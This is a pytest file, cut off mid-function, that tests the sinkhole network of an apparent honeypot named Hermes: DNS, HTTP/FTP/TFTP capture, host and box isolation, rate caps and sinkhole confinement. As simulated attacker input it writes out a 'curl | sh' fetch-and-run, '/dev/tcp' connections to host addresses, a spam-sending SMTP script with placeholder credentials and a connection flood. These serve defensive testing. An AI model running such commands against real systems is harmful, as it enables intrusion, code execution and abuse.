"""container_pool.security.network_mode: sinkhole. Each box gets an eth0 on a network of
Hermes's own whose only other member is hermes-sinkhole: names resolve, HTTP on any port is
answered (egress.fetch live: fetched by hermes-fetch, kept as an artifact, cached; off: a 404),
every other connection is held and logged; the host, the other boxes and the internet are not
on that network at all.

Everything the test process itself talks to is on loopback: an HTTP server on 127.0.0.1 that
egress.hosts points a name at, and a trap listening on every host address (0.0.0.0) that no box
and no fetch may ever reach. The boxes aim at the host's own addresses and at public-looking
ones, but their packets only ever reach the sinkhole's namespace."""

import base64
import collections
import os
import pwd
import re
import shlex
import signal
import socket
import ssl
import subprocess
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from hermes_helpers import (allow_trouble, format_events, open_shell, sanitizer_build,
                            sha256_bytes, ssh_exec, wait_for)

NAME = "payload.example.net"  # egress.hosts sends its fetches to the loopback server
TLS_NAME = "secure.example.net"  # ... to the loopback HTTPS server
FTP_NAME = "files.example.net"  # ... to the loopback FTP server
TFTP_NAME = "boot.example.net"  # ... to the loopback TFTP server
SINKHOLE_COMM = "hermes-sinkhol"  # hermes-sinkhole, cut to 15 characters


# ---------------------------------------------------------------------------------------------
# The test's own servers

class PayloadServer:
    """A threaded HTTP server on 127.0.0.1 (random port) serving `files`; every request it
    gets is logged as (path, headers)."""

    def __init__(self):
        self.files = {}
        self.gates = {}  # path -> threading.Event the answer waits for
        self.requests = []
        self._lock = threading.Lock()
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                with owner._lock:
                    owner.requests.append((self.path, dict(self.headers.items())))
                gate = owner.gates.get(self.path)
                if gate is not None:
                    gate.wait(60)
                body = owner.files.get(self.path)
                if body is None:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "application/octet-stream")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def add(self, path, body):
        self.files[path] = body
        return f"http://{NAME}{path}"

    def paths(self):
        with self._lock:
            return [p for p, _ in self.requests]

    def headers_of(self, path):
        with self._lock:
            return [h for p, h in self.requests if p == path]

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


class Trap:
    """A TCP server on 0.0.0.0 (every host address), random port: it logs every connection
    it accepts (peer and first bytes). Nothing from a box or a fetch may ever reach it."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.seen = []
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self._stop:
            try:
                conn, peer = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            conn.settimeout(1)
            try:
                data = conn.recv(4096)
            except OSError:
                data = b""
            conn.close()
            self.seen.append((peer, data))

    def close(self):
        self._stop = True
        self.thread.join(5)
        self.sock.close()


@pytest.fixture(scope="module")
def payload():
    srv = PayloadServer()
    yield srv
    srv.close()


@pytest.fixture(scope="module")
def trap():
    t = Trap()
    # It does see what reaches it (over loopback, from this process).
    with socket.create_connection(("127.0.0.1", t.port), timeout=5) as c:
        c.sendall(b"probe")
    wait_for(lambda: t.seen, 5, what="the trap's own probe")
    assert t.seen[0][1] == b"probe", t.seen
    t.seen.clear()
    yield t
    t.close()


class TlsServer:
    """An HTTPS server on 127.0.0.1 with a self-signed certificate of its own (hermes-fetch
    checks none), serving `files`."""

    def __init__(self, workdir):
        key, crt = workdir / "origin.key", workdir / "origin.crt"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:P-256", "-nodes", "-keyout", str(key), "-out",
                        str(crt), "-days", "2", "-subj", "/CN=origin"],
                       check=True, capture_output=True, timeout=60)
        self.files = {}
        self.requests = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                owner.requests.append(self.path)
                body = owner.files.get(self.path)
                if body is None:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(str(crt), str(key))
        self.httpd.socket = ctx.wrap_socket(self.httpd.socket, server_side=True)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


class TftpServer:
    """A TFTP read server on 127.0.0.1 (RFC 1350, octet mode), serving `files`: each read
    answered from a port of its own, a block at a time."""

    def __init__(self):
        self.files = {}
        self.requests = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self._stop = False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self._stop:
            try:
                data, peer = self.sock.recvfrom(2048)
            except socket.timeout:
                continue
            except OSError:
                return
            if data[:2] != b"\x00\x01":
                continue
            name = data[2:].split(b"\x00")[0].decode("latin-1")
            self.requests.append(name)
            threading.Thread(target=self._send, args=(name, peer), daemon=True).start()

    def _send(self, name, peer):
        t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        t.bind(("127.0.0.1", 0))
        t.settimeout(2)
        body = self.files.get(name.lstrip("/"))
        if body is None:
            t.sendto(b"\x00\x05\x00\x01File not found\x00", peer)
            t.close()
            return
        block = 1
        while True:
            chunk = body[(block - 1) * 512:block * 512]
            for _ in range(5):
                t.sendto(b"\x00\x03" + block.to_bytes(2, "big") + chunk, peer)
                try:
                    ack, _ = t.recvfrom(100)
                except socket.timeout:
                    continue
                if ack[:2] == b"\x00\x04" and int.from_bytes(ack[2:4], "big") == block:
                    break
            else:
                break
            if len(chunk) < 512:
                break
            block += 1
        t.close()

    def close(self):
        self._stop = True
        self.sock.close()


class FtpServer:
    """An anonymous FTP server on 127.0.0.1 (pyftpdlib, Debian's python3-pyftpdlib) serving
    the files of a directory."""

    def __init__(self, root):
        from pyftpdlib.authorizers import DummyAuthorizer
        from pyftpdlib.handlers import FTPHandler
        from pyftpdlib.servers import FTPServer
        self.root = root
        auth = DummyAuthorizer()
        auth.add_anonymous(str(root))
        handler = type("Handler", (FTPHandler,), {"authorizer": auth,
                                                  "passive_ports": range(41000, 41100)})
        self.server = FTPServer(("127.0.0.1", 0), handler)
        self.port = self.server.address[1]
        threading.Thread(target=self.server.serve_forever, kwargs={"timeout": 0.2},
                         daemon=True).start()

    def close(self):
        self.server.close_all()


@pytest.fixture(scope="module")
def tls_origin(tmp_path_factory):
    srv = TlsServer(tmp_path_factory.mktemp("tls"))
    yield srv
    srv.close()


@pytest.fixture(scope="module")
def tftp_origin():
    srv = TftpServer()
    yield srv
    srv.close()


@pytest.fixture(scope="module")
def ftp_origin(tmp_path_factory):
    srv = FtpServer(tmp_path_factory.mktemp("ftp"))
    yield srv
    srv.close()


def sinkhole_config(payload, fetch, live_ports=(), more_hosts=None):
    cfg = {"container_pool": {"security": {"network_mode": "sinkhole"}},
           "egress": {"fetch": fetch,
                      "hosts": {NAME: f"127.0.0.1:{payload.port}", **(more_hosts or {})}}}
    if live_ports:
        cfg["egress"]["live_ports"] = ["80", "443", "21", "8080", *map(str, live_ports)]
    return cfg


@pytest.fixture(scope="module")
def sink(module_factory, payload, trap, tls_origin, tftp_origin, ftp_origin):
    """The shared instance: sinkhole network, live fetching. The trap's port is one a live
    fetch may use: only the address can keep a fetch from it."""
    return module_factory.start(sinkhole_config(
        payload, "live", [trap.port],
        {TLS_NAME: f"127.0.0.1:{tls_origin.port}", TFTP_NAME: f"127.0.0.1:{tftp_origin.port}",
         FTP_NAME: f"127.0.0.1:{ftp_origin.port}"}))


# ---------------------------------------------------------------------------------------------
# Helpers

def run(inst, command, timeout=180):
    """Runs command in a new session: (CompletedProcess, session id)."""
    mark = inst.mark()
    r = ssh_exec(inst.port, command, timeout=timeout)
    sid = inst.wait_new_session(mark)
    return r, sid


def text(r):
    return r.stdout.decode("utf-8", "replace") + r.stderr.decode("utf-8", "replace")


def host_addresses():
    """The host's own IPv4 addresses but loopback's, from `ip -4 -o addr` (docker0's and the
    main interface's among them)."""
    out = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True,
                         check=True, timeout=20).stdout
    found = []
    for line in out.splitlines():
        parts = line.split()
        iface, addr = parts[1], parts[3].split("/")[0]
        if iface != "lo" and not addr.startswith("127."):
            found.append((iface, addr))
    assert found, f"no non-loopback IPv4 address on this host:\n{out}"
    return found


def children(pid):
    out = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        out.extend(int(k) for k in (task / "children").read_text().split())
    return out


def sinkholes(inst):
    found = []
    for p in children(inst.proc.pid):
        try:
            if Path(f"/proc/{p}/comm").read_text().strip() == SINKHOLE_COMM:
                found.append(p)
        except FileNotFoundError:
            pass
    return found


def kill_sinkhole(inst, pid):
    """SIGKILLs the sinkhole `pid`: the monitor says so and starts another; its pid."""
    said = "sinkhole killed by signal 9"
    before = inst.stderr_tail(100000).count(said)
    os.kill(pid, signal.SIGKILL)
    wait_for(lambda: inst.stderr_tail(100000).count(said) > before, 15,
             what="the monitor's word on the killed sinkhole")

    def restarted():
        now = [p for p in sinkholes(inst) if p != pid]
        return now if now and re.search(rf"sinkhole started \(pid {now[0]}\)",
                                        inst.stderr_tail(400)) else None
    again = wait_for(restarted, 15, what="a new hermes-sinkhole")
    assert len(again) == 1, again
    return again


def proc_status(pid):
    fields = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        k, _, v = line.partition(":")
        fields[k] = v.strip()
    return fields


def of_session(inst, sid, event, **fields):
    return inst.find(event, session=sid, **fields)


# ---------------------------------------------------------------------------------------------
# 1. Downloads, fetched live through egress.hosts, kept, cached

def test_downloads_are_fetched_live_kept_and_cached(sink, payload):
    art = Path(sink.config["forensics"]["artifacts_dir"])
    marker = f"SCRIPT-RAN-{uuid.uuid4().hex}"
    bodies = {
        "/a.bin": os.urandom(200_000),
        "/b.bin": os.urandom(100_000),
        "/c.sh": f"#!/bin/sh\necho {marker}\n".encode(),
        "/d.bin": os.urandom(50_000),
        "/e.bin": os.urandom(150_000),
    }
    urls = {p: payload.add(p, b) for p, b in bodies.items()}
    py = ("import urllib.request; open('/tmp/e', 'wb').write("
          f"urllib.request.urlopen('{urls['/e.bin']}').read())")
    script = "\n".join([
        f"wget -q -O /tmp/a {urls['/a.bin']}; echo wget=$?",
        f"cd /tmp && curl -s -O {urls['/b.bin']}; echo curl=$?",
        f"curl -s {urls['/c.sh']} | sh",
        f"busybox wget -O /tmp/d {urls['/d.bin']}; echo busybox=$?",
        f"python3 -c {shlex.quote(py)}; echo python=$?",
        # The same URL again: served from the cache, not fetched again.
        f"curl -s -o /tmp/a2 {urls['/a.bin']}; echo again=$?",
        "sha256sum /tmp/a /tmp/b.bin /tmp/d /tmp/e /tmp/a2",
        "sleep 1",
    ])
    r, sid = run(sink, script)
    out = text(r)
    assert r.returncode == 0, out
    for tool in ("wget", "curl", "busybox", "python", "again"):
        assert f"{tool}=0" in out, out
    assert marker in out, "the piped script did not run:\n" + out
    in_box = {}
    for m in re.finditer(r"^([0-9a-f]{64})  (\S+)$", out, re.M):
        in_box[m.group(2)] = m.group(1)
    assert in_box == {"/tmp/a": sha256_bytes(bodies["/a.bin"]),
                      "/tmp/b.bin": sha256_bytes(bodies["/b.bin"]),
                      "/tmp/d": sha256_bytes(bodies["/d.bin"]),
                      "/tmp/e": sha256_bytes(bodies["/e.bin"]),
                      "/tmp/a2": sha256_bytes(bodies["/a.bin"])}, out

    tools = {"/a.bin": "wget", "/b.bin": "curl", "/c.sh": "curl", "/d.bin": "busybox",
             "/e.bin": "python3"}
    for path, body in bodies.items():
        h = sha256_bytes(body)
        url = urls[path]
        assert (art / h).read_bytes() == body, f"{path}: artifact {h}"
        dl = sink.wait_event("file.downloaded", session=sid, url=url, source="live",
                             timeout=30)
        assert dl["sha256"] == h and dl["size"] == len(body), dl
        assert dl["src_ip"] == "127.0.0.1" and dl["container_id"], dl
        assert tools[path] in dl.get("cmdline", ""), dl
        http = sink.wait_event("egress.http", session=sid, url=url, fetch="live", timeout=30)
        assert http["status"] == 200 and http["sha256"] == h, http
        assert http["method"] == "GET" and http["host"] == NAME and http["dport"] == 80, http
        assert tools[path] in http.get("cmdline", ""), http
        assert "error" not in http, http
    # The second a.bin: the cache's, with its own events, still the curl's.
    cached = of_session(sink, sid, "egress.http", url=urls["/a.bin"], fetch="cache")
    assert len(cached) == 1, format_events(sink.session_events(sid))
    assert cached[0]["status"] == 200 and cached[0]["sha256"] == sha256_bytes(bodies["/a.bin"])
    assert "curl" in cached[0].get("cmdline", ""), cached[0]
    assert cached[0]["user_agent"].startswith("curl/"), cached[0]
    dls = of_session(sink, sid, "file.downloaded", url=urls["/a.bin"])
    assert sorted(d["source"] for d in dls) == ["cache", "live"], dls
    # Each name was looked up in the sinkhole's DNS; the connections went to its answer.
    dns = of_session(sink, sid, "egress.dns", query=NAME, qtype="A")
    assert dns, format_events(sink.session_events(sid))
    answer = dns[0]["answer"]
    assert all(e["dst"] == answer for e in of_session(sink, sid, "egress.http")), \
        format_events(of_session(sink, sid, "egress.http"))
    # The loopback server saw each URL once: the second a.bin never reached it. The fetch
    # carried the box's own User-Agent.
    seen = collections.Counter(payload.paths())
    assert {p: seen[p] for p in bodies} == {p: 1 for p in bodies}, payload.paths()
    assert payload.headers_of("/b.bin")[0].get("User-Agent", "").startswith("curl/")


# ---------------------------------------------------------------------------------------------
# 2. DNS

def test_every_name_resolves_and_is_logged(sink):
    name = f"anything-{uuid.uuid4().hex[:8]}.example.org"
    r, sid = run(sink, f"getent hosts {name}; echo rc=$?; getent hosts anything.example.org; "
                       f"sleep 1")
    out = text(r)
    assert "rc=0" in out, out
    got = {}
    for line in out.splitlines():
        parts = line.split()
        if len(parts) >= 2 and re.fullmatch(r"\d+\.\d+\.\d+\.\d+", parts[0]):
            got[parts[1]] = parts[0]
    assert set(got) == {name, "anything.example.org"}, out
    for q, addr in got.items():
        ev = sink.wait_event("egress.dns", session=sid, query=q, qtype="A", timeout=20)
        assert ev["answer"] == addr and ev["rcode"] == 0, ev
        assert ev["box_ip"].startswith("10.77."), ev
    # Deterministic: the same name, the same answer, whoever asks.
    r2, sid2 = run(sink, "getent hosts anything.example.org")
    assert r2.stdout.split()[0].decode() == got["anything.example.org"], text(r2)
    assert got[name] != got["anything.example.org"]


# ---------------------------------------------------------------------------------------------
# 2b. Other UDP, TFTP's included

def test_udp_is_logged(sink):
    r, sid = run(sink, "echo udp-hello >/dev/udp/198.51.100.7/5353; echo udp=$?; "
                       "timeout 3 tftp 198.51.100.7 -c get boot.bin; "
                       "ping -c 1 -W 5 198.51.100.8; echo ping=$?; sleep 1")
    out = text(r)
    assert "udp=0" in out, out
    # ping works, as on a stock server (every address answers), and is logged.
    assert "ping=0" in out and "1 received" in out, out
    echo = sink.wait_event("egress.connect", session=sid, proto="icmp", dst="198.51.100.8",
                           timeout=20)
    assert echo["type"] == 8 and echo["bytes"] >= 8, echo
    udp = sink.wait_event("egress.connect", session=sid, proto="udp", dst="198.51.100.7",
                          dport=5353, timeout=20)
    assert base64.b64decode(udp["data_b64"]) == b"udp-hello\n" and udp["bytes"] == 10, udp
    # A TFTP read is a fetch of tftp://ADDRESS/FILE; a documentation address is never
    # fetched live.
    tftp = sink.wait_event("egress.http", session=sid, url="tftp://198.51.100.7/boot.bin",
                           timeout=20)
    assert tftp["proto"] == "udp" and tftp["dport"] == 69 and tftp["status"] == 502, tftp
    assert "refused to connect to 198.51.100.7" in tftp["error"], tftp
    assert tftp["cmdline"].startswith("tftp 198.51.100.7"), tftp


# ---------------------------------------------------------------------------------------------
# 2c. HTTPS, FTP and TFTP downloads, fetched live and kept

def kept(inst, sid, url, body):
    """The box's download of url: file.downloaded for the session, the artifact, egress.http."""
    ev = inst.wait_event("file.downloaded", session=sid, url=url, timeout=30)
    assert ev["sha256"] == sha256_bytes(body) and ev["size"] == len(body), ev
    art = Path(inst.config["forensics"]["artifacts_dir"]) / ev["sha256"]
    assert art.read_bytes() == body
    http = inst.wait_event("egress.http", session=sid, url=url, timeout=30)
    assert http["status"] == 200 and http["sha256"] == ev["sha256"], http
    return http


def test_https_ftp_and_tftp_downloads(sink, tls_origin, ftp_origin, tftp_origin):
    bodies = {name: os.urandom(n) for name, n in
              (("t1.bin", 70_000), ("t2.bin", 30_000), ("f1.bin", 90_000), ("f2.bin", 20_000),
               ("p1.bin", 3000), ("p2.bin", 1024))}
    for k in ("t1.bin", "t2.bin"):
        tls_origin.files["/" + k] = bodies[k]
    for k in ("f1.bin", "f2.bin"):
        (ftp_origin.root / k).write_bytes(bodies[k])
    for k in ("p1.bin", "p2.bin"):
        tftp_origin.files[k] = bodies[k]
    script = "; ".join([
        "cd /tmp",
        f"curl -sS -o t1.bin https://{TLS_NAME}/t1.bin; echo curl=$?",
        f"wget -q https://{TLS_NAME}/t2.bin; echo wget=$?",
        f"wget -q ftp://{FTP_NAME}/f1.bin; echo wgetftp=$?",
        f"curl -sS -o f2.bin ftp://{FTP_NAME}/f2.bin; echo curlftp=$?",
        f"tftp {TFTP_NAME} -c get p1.bin",
        f"busybox tftp -g -r p2.bin -l p2.bin {TFTP_NAME}; echo btftp=$?",
        "sha256sum t1.bin t2.bin f1.bin f2.bin p1.bin p2.bin",
        # The certificate the box was shown: ours, signed by the CA it trusts.
        f"echo | openssl s_client -connect {TLS_NAME}:443 -servername {TLS_NAME} 2>/dev/null"
        " | openssl x509 -noout -subject -issuer"])
    r, sid = run(sink, script)
    out = text(r)
    for word in ("curl=0", "wget=0", "wgetftp=0", "curlftp=0", "btftp=0"):
        assert word in out, out
    for name, body in bodies.items():
        assert f"{sha256_bytes(body)}  {name}" in out, out
    assert re.search(rf"subject=CN ?= ?{re.escape(TLS_NAME)}", out), out
    assert "Internal Root CA" in out, out
    for name, tool in (("t1.bin", "curl"), ("t2.bin", "wget")):
        http = kept(sink, sid, f"https://{TLS_NAME}/{name}", bodies[name])
        assert http["tls"] is True and http["sni"] == TLS_NAME, http
        assert http["cmdline"].startswith(tool), http
    for name, tool in (("f1.bin", "wget"), ("f2.bin", "curl")):
        http = kept(sink, sid, f"ftp://{FTP_NAME}/{name}", bodies[name])
        assert http["dport"] == 21 and http["cmdline"].startswith(tool), http
    for name, tool in (("p1.bin", "tftp"), ("p2.bin", "busybox")):
        http = kept(sink, sid, f"tftp://{TFTP_NAME}/{name}", bodies[name])
        assert http["proto"] == "udp" and http["cmdline"].startswith(tool), http
    assert sorted(tls_origin.requests) == ["/t1.bin", "/t2.bin"], tls_origin.requests
    assert sorted(tftp_origin.requests) == ["p1.bin", "p2.bin"], tftp_origin.requests


# ---------------------------------------------------------------------------------------------
# 2d. Mail is taken and kept, never sent

def test_mail_is_kept_not_sent(sink):
    subject = f"Cheap pills {uuid.uuid4().hex[:8]}"
    py = ("import smtplib; s = smtplib.SMTP('smtp.gmail.com', 587, timeout=20); "
          "s.ehlo('spambot'); s.login('victim@example.com', 'hunter2'); "
          f"s.sendmail('a@example.com', ['x@example.org', 'y@example.org'], "
          f"'Subject: {subject}\\r\\n\\r\\nBuy now\\r\\n'); s.quit(); print('sent')")
    r, sid = run(sink, f"python3 -c {shlex.quote(py)}")
    assert "sent" in text(r), text(r)
    ev = sink.wait_event("egress.smtp", session=sid, timeout=30)
    assert ev["helo"] == "spambot" and ev["mail_from"] == "a@example.com", ev
    assert ev["rcpt_to"] == ["x@example.org", "y@example.org"], ev
    assert ev["subject"] == subject and ev["host"] == "smtp.gmail.com", ev
    assert ev["auth_user"] == "victim@example.com" and ev["auth_password"] == "hunter2", ev
    art = Path(sink.config["forensics"]["artifacts_dir"]) / ev["sha256"]
    assert f"Subject: {subject}".encode() in art.read_bytes()


# ---------------------------------------------------------------------------------------------
# 2e. What a box may send is capped by the kernel too

def test_box_rate_is_capped_by_the_kernel(sink):
    """egress.box_rate (1m by default): a token bucket on the box's eth0, which root in the box
    (no CAP_NET_ADMIN) cannot take away."""
    r, _ = run(sink, "tc qdisc show dev eth0; tc qdisc del dev eth0 root; echo del=$?; "
                     "tc qdisc show dev eth0")
    out = text(r)
    shown = [line for line in out.splitlines() if line.startswith("qdisc ")]
    assert len(shown) == 2 and all(line == shown[0] for line in shown), out
    # 1 MiB a second is 8388 Kbit in tc's words, the bucket 128 KiB.
    assert re.match(r"qdisc tbf 1: root .*rate 8388Kbit burst 128Kb", shown[0]), out
    assert "del=2" in out and "Operation not permitted" in out, out


# ---------------------------------------------------------------------------------------------
# 3. The host is not on the boxes' network

def test_host_is_unreachable(sink, trap):
    targets = [a for _, a in host_addresses()]
    lines = []
    for addr in targets + ["127.0.0.1"]:
        lines.append(f"timeout 10 bash -c 'echo hello-{addr} >/dev/tcp/{addr}/{trap.port}'; "
                     f"echo {addr}=$?")
    lines.append("sleep 1")
    r, sid = run(sink, "\n".join(lines))
    out = text(r)
    for addr in targets:
        # The sinkhole took it: the connection worked, to nothing of the host's.
        assert f"{addr}=0" in out, out
        ev = sink.wait_event("egress.connect", session=sid, proto="tcp", dst=addr,
                             dport=trap.port, timeout=20)
        sent = f"hello-{addr}\n".encode()
        assert "hello" in ev["head"] and ev["bytes"] == len(sent), ev
        assert ev["sha256"] == sha256_bytes(sent), ev
        art = Path(sink.config["forensics"]["artifacts_dir"]) / ev["sha256"]
        assert art.read_bytes() == sent
    # 127.0.0.1 is the box's own loopback: nothing listens there, nothing is logged.
    assert "127.0.0.1=1" in out, out
    assert not of_session(sink, sid, "egress.connect", dst="127.0.0.1"), \
        format_events(sink.session_events(sid))
    time.sleep(1)
    assert trap.seen == [], f"the host's server was reached: {trap.seen}"


# ---------------------------------------------------------------------------------------------
# 4. Box to box

LISTENER = r"""
import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 9999))
s.listen(8)
s.settimeout(60)
print("LISTENING", flush=True)
while True:
    try:
        c, peer = s.accept()
    except socket.timeout:
        break
    c.settimeout(5)
    try:
        data = c.recv(100)
    except OSError:
        data = b""
    print("GOT", peer[0], data.decode(errors="replace").strip(), flush=True)
    c.close()
"""


def test_boxes_cannot_reach_each_other(sink):
    marker = f"TO-B-{uuid.uuid4().hex[:8]}"
    b64 = base64.b64encode(LISTENER.encode()).decode()
    with open_shell(sink) as b:
        b.send(f"echo {b64} | base64 -d > /tmp/l.py; "
               "python3 /tmp/l.py > /tmp/l.out 2>&1 & "
               "sleep 1; cat /tmp/l.out; ip -4 -o addr show dev eth0\n")
        b.expect(r"LISTENING", timeout=30)
        b_addr = b.expect(r"inet (10\.\d+\.\d+\.\d+)/", timeout=20).group(1)
        sink.wait_event("container.allocated", session=b.sid, timeout=30)

        r, a_sid = run(sink, f"ip -4 -o addr show dev eth0; "
                             f"timeout 10 bash -c 'echo {marker} >/dev/tcp/{b_addr}/9999'; "
                             f"echo sent=$?; sleep 1")
        out = text(r)
        a_addr = re.search(r"inet (10\.\d+\.\d+\.\d+)/", out).group(1)
        assert a_addr != b_addr, out
        assert "sent=0" in out, out  # the sinkhole answered in B's place
        ev = sink.wait_event("egress.connect", session=a_sid, dst=b_addr, dport=9999,
                             timeout=20)
        assert ev["box_ip"] == a_addr and marker in ev["head"], ev

        # B's listener works (a connection of B's own reaches it), and that is the first and
        # only thing it got.
        b.send("echo SELF >/dev/tcp/127.0.0.1/9999; sleep 1; echo ==; cat /tmp/l.out; "
               "echo END-OF-L\n")
        got = b.expect(r"(?s)==\s*\n(.*?)END-OF-L", timeout=20).group(1)
        lines = [ln for ln in got.splitlines() if ln.strip()]
        assert lines == ["LISTENING", "GOT 127.0.0.1 SELF"], got
        assert marker not in b.output


# ---------------------------------------------------------------------------------------------
# 5. Per-box caps

FLOOD = r"""
import socket, time
ok = 0
for i in range(300):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect(("203.0.113.9", 443))
        ok += 1
    except OSError:
        pass
    s.close()
print("FLOOD-DONE", ok, flush=True)
time.sleep(4)
"""


def test_connect_flood_is_capped(sink):
    b64 = base64.b64encode(FLOOD.encode()).decode()
    mark = sink.mark()
    r, sid = run(sink, f"echo {b64} | base64 -d | python3 -")
    assert b"FLOOD-DONE" in r.stdout, text(r)
    limited = sink.find("egress.limited", since=mark, session=sid)
    assert limited, "no egress.limited for the flooding session:\n" + format_events(
        sink.find(lambda e: e.get("event", "").startswith("egress."), since=mark)[-20:])
    refused = sum(e["connections_refused"] for e in limited)
    assert refused > 0 and sum(e["events_dropped"] for e in limited) == 0, limited
    # Every connection either went through (held, logged when the box closed it) or was
    # refused and counted: none lost, none logged twice.
    through = of_session(sink, sid, "egress.connect", dst="203.0.113.9", dport=443)
    assert len(through) + refused == 300, (len(through), refused)


# ---------------------------------------------------------------------------------------------
# 6. egress.fetch: off

def test_fetch_off_answers_404(hermes_factory, payload):
    off = hermes_factory.start(sinkhole_config(payload, "off"))
    url = payload.add("/off.bin", os.urandom(1000))
    r, sid = run(off, f"wget -q -O /tmp/off {url}; echo wget=$?; curl -s {url}; sleep 1")
    out = text(r)
    m = re.search(r"wget=(\d+)", out)
    assert m and m.group(1) != "0", out
    assert "<center><h1>404 Not Found</h1></center>" in out, out  # nginx's page
    evs = off.find("egress.http", session=sid, url=url)
    assert len(evs) == 2, format_events(off.session_events(sid))
    for ev in evs:
        assert ev["status"] == 404 and ev["fetch"] == "off" and "sha256" not in ev, ev
    assert {("wget" in e.get("cmdline", ""), "curl" in e.get("cmdline", "")) for e in evs} \
        == {(True, False), (False, True)}, evs
    assert not off.find("file.downloaded"), off.find("file.downloaded")
    assert "/off.bin" not in payload.paths()


# ---------------------------------------------------------------------------------------------
# 7. A private address is never fetched live

def test_private_address_is_not_fetched(sink, trap):
    """The host's own addresses, on a port of egress.live_ports: refused by hermes-fetch (not
    global unicast) before a packet leaves; the box gets a 502."""
    assert str(trap.port) in sink.config["egress"]["live_ports"]
    targets = [a for _, a in host_addresses()]
    lines = [f"curl -s -o /dev/null -w '{a}=%{{http_code}}\\n' http://{a}:{trap.port}/x"
             for a in targets]
    lines.append("sleep 1")
    r, sid = run(sink, "\n".join(lines))
    out = text(r)
    for addr in targets:
        assert f"{addr}=502" in out, out
        url = f"http://{addr}:{trap.port}/x"
        ev = sink.wait_event("egress.http", session=sid, url=url, timeout=30)
        assert ev["status"] == 502 and ev["fetch"] == "live", ev
        assert f"refused to connect to {addr} port {trap.port}" in ev.get("error", ""), ev
        assert "curl" in ev.get("cmdline", ""), ev
        assert not of_session(sink, sid, "file.downloaded", url=url)
    time.sleep(1)
    assert trap.seen == [], f"the host's server was reached: {trap.seen}"


# ---------------------------------------------------------------------------------------------
# 8. The sinkhole program is confined, and comes back when killed

def test_sinkhole_is_confined_and_restarted(sink):
    allow_trouble(r"sinkhole killed by signal 9")
    found = wait_for(lambda: sinkholes(sink), 10, what="the hermes-sinkhole child")
    assert len(found) == 1, found
    pid = found[0]
    worker_user = sink.config["server"].get("worker_user", "nobody")
    chroot = sink.config["server"].get("worker_chroot", "/var/empty")
    user = pwd.getpwnam(worker_user)

    def check_confined(p):
        st = proc_status(p)
        assert st["NoNewPrivs"] == "1" and st["Seccomp"] == "2", st
        assert int(st["CapEff"], 16) == 0 and int(st["CapPrm"], 16) == 0, st
        assert st["Uid"].split() == [str(user.pw_uid)] * 4, st["Uid"]
        assert st["Gid"].split() == [str(user.pw_gid)] * 4, st["Gid"]
        assert user.pw_uid != 0
        # A sanitizer build keeps its root for the leak check's /proc (sinkhole_main.c);
        # the release pass checks the chroot.
        if not sanitizer_build():
            assert os.readlink(f"/proc/{p}/root") == chroot
        assert os.readlink(f"/proc/{p}/ns/net") != os.readlink("/proc/self/ns/net")
        assert os.readlink(f"/proc/{p}/ns/net") != os.readlink(f"/proc/{sink.proc.pid}/ns/net")

    check_confined(pid)
    again = kill_sinkhole(sink, pid)
    # Confined again once it has its start message.
    wait_for(lambda: proc_status(again[0])["Seccomp"] == "2", 10, what="its filter")
    check_confined(again[0])

    name = f"again-{uuid.uuid4().hex[:8]}.example.org"
    r, sid = run(sink, f"getent hosts {name}; echo rc=$?; sleep 1")
    out = text(r)
    assert "rc=0" in out, out
    ev = sink.wait_event("egress.dns", session=sid, query=name, qtype="A", timeout=20)
    assert out.split()[0] == ev["answer"], (out, ev)


# ---------------------------------------------------------------------------------------------
# 9. A fetch that outlives the sinkhole answers no one

def test_fetch_of_a_killed_sinkhole_is_not_answered_to_its_successor(hermes_factory, payload):
    """The new sinkhole numbers its connections from 1 again: the answer to a fetch the killed
    one asked for must not be taken for one of the new one's requests (which would get the
    wrong body)."""
    allow_trouble(r"sinkhole killed by signal 9")
    inst = hermes_factory.start(sinkhole_config(payload, "live"))
    tag = uuid.uuid4().hex[:8]
    old_path = f"/old-{tag}.bin"
    old_gate = payload.gates[old_path] = threading.Event()
    old_url = payload.add(old_path, os.urandom(30_000))
    new_gate = threading.Event()
    new = {}
    for i in range(3):
        path = f"/new-{tag}-{i}.bin"
